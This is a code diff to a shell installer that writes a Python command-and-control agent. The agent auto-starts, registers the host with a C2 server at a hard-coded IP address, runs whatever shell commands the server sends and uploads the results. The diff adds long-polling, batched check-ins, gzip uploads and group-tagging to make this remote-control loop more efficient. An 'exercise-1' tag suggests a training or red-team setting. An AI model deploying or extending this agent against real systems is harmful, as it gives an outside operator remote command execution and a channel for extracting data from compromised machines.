@@ -7,6 +7,12 @@ Automatically connects endpoint to C2 server on startup
 # Configuration
 C2_HOST="${C2_HOST:-192.168.210.170}"
 C2_PORT="${C2_PORT:-8080}"
+# Command delivery: "longpoll" (block on the server until work arrives) or "poll" (every 5s)
+C2_DELIVERY="${C2_DELIVERY:-longpoll}"
+export C2_DELIVERY
+# Comma-separated tags sent at registration, for group commands (e.g. "web,exercise-1")
+C2_TAGS="${C2_TAGS:-}"
+export C2_TAGS
 CLIENT_ID="$(hostname)-$$"
 
 # Colors for logging
@@ -77,8 +83,9 @@ create_client() {
     
     cat > /opt/c2client/client.py << 'EOF'
 #!/usr/bin/env python3
-import urllib.request
+import http.client
 import json
+import gzip
 import subprocess
 import time
 import platform
@@ -93,9 +100,67 @@ class AutoC2Client:
         self.client_id = f"{platform.node()}-{os.getpid()}"
         self.c2_url = f"http://{c2_host}:{c2_port}"
         self.running = True
+        # One keep-alive connection reused for every request
+        self.conn = None
+        # Heartbeat, results and command fetch in one /api/checkin request until the
+        # server shows it doesn't support it, then the separate routes
+        self.checkin = True
+        # Results waiting to go out with the next check-in
+        self.pending_results = []
+        # Long-poll until the server shows it doesn't support it, then plain polling
+        self.long_poll = os.getenv("C2_DELIVERY", "longpoll") == "longpoll"
+        self.long_poll_wait = 25
+        # gzip result uploads until the server shows it doesn't accept them
+        self.compress = True
+        self.compress_min = 1024
         
     def log(self, msg):
         print(f"[{time.strftime('%H:%M:%S')}] {msg}", flush=True)
+    
+    def request(self, method, path, body=None, headers=None, timeout=10):
+        """Send a request on the keep-alive connection, returning (status, parsed JSON body)
+
+        A connection the server closed while idle is replaced and the request
+        retried once.
+        """
+        for attempt in range(2):
+            if self.conn is None:
+                self.conn = http.client.HTTPConnection(self.c2_host, int(self.c2_port), timeout=timeout)
+            try:
+                if self.conn.sock is not None:
+                    self.conn.sock.settimeout(timeout)
+                else:
+                    self.conn.timeout = timeout
+                # Lets a load balancer in front of several server workers keep this agent on one of them
+                self.conn.request(method, path, body, {"X-C2-Client": self.client_id, **(headers or {})})
+                resp = self.conn.getresponse()
+                data = resp.read()
+                break
+            except (http.client.HTTPException, ConnectionError):
+                self.conn.close()
+                self.conn = None
+                if attempt:
+                    raise
+            except Exception:
+                self.conn.close()
+                self.conn = None
+                raise
+        try:
+            return resp.status, json.loads(data.decode()) if data else {}
+        except ValueError:
+            return resp.status, {}
+    
+    def post_json(self, path, payload, timeout=10):
+        """POST payload as JSON, gzipped when large; returns (status, parsed JSON body)"""
+        body = json.dumps(payload).encode()
+        if self.compress and len(body) >= self.compress_min:
+            status, data = self.request("POST", path, gzip.compress(body),
+                                        {"Content-Type": "application/json", "Content-Encoding": "gzip"}, timeout)
+            if status not in (400, 415):
+                return status, data
+            self.log("Server rejected a compressed upload, sending uncompressed")
+            self.compress = False
+        return self.request("POST", path, body, {"Content-Type": "application/json"}, timeout)
         
     def get_local_ip(self):
         try:
@@ -132,45 +197,88 @@ class AutoC2Client:
                 "pwd": os.getcwd(),
                 "local_ip": self.get_local_ip(),
                 "container": os.getenv("HOSTNAME", platform.node()),
-                "auto_deployed": True
+                "auto_deployed": True,
+                "tags": [tag.strip() for tag in os.getenv("C2_TAGS", "").split(",") if tag.strip()]
             }
             
-            req = urllib.request.Request(
-                f"{self.c2_url}/api/register",
-                json.dumps(data).encode(),
-                {"Content-Type": "application/json"}
-            )
-            urllib.request.urlopen(req, timeout=10)
+            status, _ = self.request("POST", "/api/register", json.dumps(data).encode(),
+                                     {"Content-Type": "application/json"})
+            if status != 200:
+                raise RuntimeError(f"HTTP {status}")
             self.log(f"✓ Registered as {self.client_id}")
             return True
         except Exception as e:
             self.log(f"✗ Registration failed: {e}")
             return False
     
+    def send_result(self, command_id, result):
+        status, _ = self.post_json("/api/results", {
+            "client_id": self.client_id,
+            "command_id": command_id,
+            "result": result
+        })
+        if status != 200:
+            raise RuntimeError(f"HTTP {status}")
+    
+    def run_commands(self, commands):
+        for cmd_data in commands:
+            self.log(f"→ Executing: {cmd_data['command']}")
+            result = self.execute(cmd_data["command"])
+            if self.checkin:
+                # Goes out with the next check-in, which is sent straight away
+                self.pending_results.append({"command_id": cmd_data["id"], "result": result})
+            else:
+                self.send_result(cmd_data["id"], result)
+                self.log(f"← Result sent")
+    
+    def check_in(self):
+        """Send queued results and fetch new commands in a single request"""
+        # The server stores the results before it starts the long-poll, so they never wait behind it
+        wait = self.long_poll_wait if self.long_poll else 0
+        status, data = self.post_json("/api/checkin", {
+            "client_id": self.client_id,
+            "results": self.pending_results,
+            "wait": wait
+        }, timeout=wait + 10)
+        if status == 404:
+            self.log("Server does not support check-in, falling back to separate requests")
+            self.checkin = False
+            for pending in self.pending_results:
+                self.send_result(pending["command_id"], pending["result"])
+            self.pending_results = []
+            return self.check_commands()
+        if 400 <= status < 500 and self.pending_results:
+            # Resending the same batch would fail the same way
+            self.log(f"✗ Check-in rejected (HTTP {status}), dropping {len(self.pending_results)} result(s)")
+            self.pending_results = []
+        if status != 200 or not data.get("success"):
+            return False
+        if self.pending_results:
+            self.log(f"← {len(self.pending_results)} result(s) sent")
+            self.pending_results = []
+        self.run_commands(data.get("commands", ()))
+        return True
+    
     def check_commands(self):
         try:
-            req = urllib.request.Request(f"{self.c2_url}/api/clients/{self.client_id}")
-            resp = urllib.request.urlopen(req, timeout=10)
-            data = json.loads(resp.read().decode())
+            if self.checkin:
+                return self.check_in()
+            if self.long_poll:
+                status, data = self.request("GET", f"/api/clients/{self.client_id}?wait={self.long_poll_wait}",
+                                            timeout=self.long_poll_wait + 10)
+            else:
+                status, data = self.request("GET", f"/api/clients/{self.client_id}")
+            if status != 200:
+                return False
             
-            if data.get("commands"):
-                for cmd_data in data["commands"]:
-                    self.log(f"→ Executing: {cmd_data['command']}")
-                    result = self.execute(cmd_data["command"])
-                    
-                    result_req = urllib.request.Request(
-                        f"{self.c2_url}/api/results",
-                        json.dumps({
-                            "client_id": self.client_id,
-                            "command_id": cmd_data["id"],
-                            "result": result
-                        }).encode(),
-                        {"Content-Type": "application/json"}
-                    )
-                    urllib.request.urlopen(result_req, timeout=10)
-                    self.log(f"← Result sent")
+            if self.long_poll and not data.get("long_poll"):
+                self.log("Server does not support long-poll, falling back to polling")
+                self.long_poll = False
+            
+            self.run_commands(data.get("commands", ()))
+            return True
         except:
-            pass
+            return False
     
     def run(self):
         self.log(f"🚀 Auto C2 Client starting: {self.client_id}")
@@ -186,8 +294,10 @@ class AutoC2Client:
         
         while self.running:
             try:
-                self.check_commands()
-                time.sleep(5)
+                # A long-poll already waited on the server; only sleep when polling or on errors,
+                # and never with results still to send
+                if not self.check_commands() or not (self.long_poll or self.pending_results):
+                    time.sleep(5)
             except KeyboardInterrupt:
                 self.log("🛑 Client stopping...")
                 break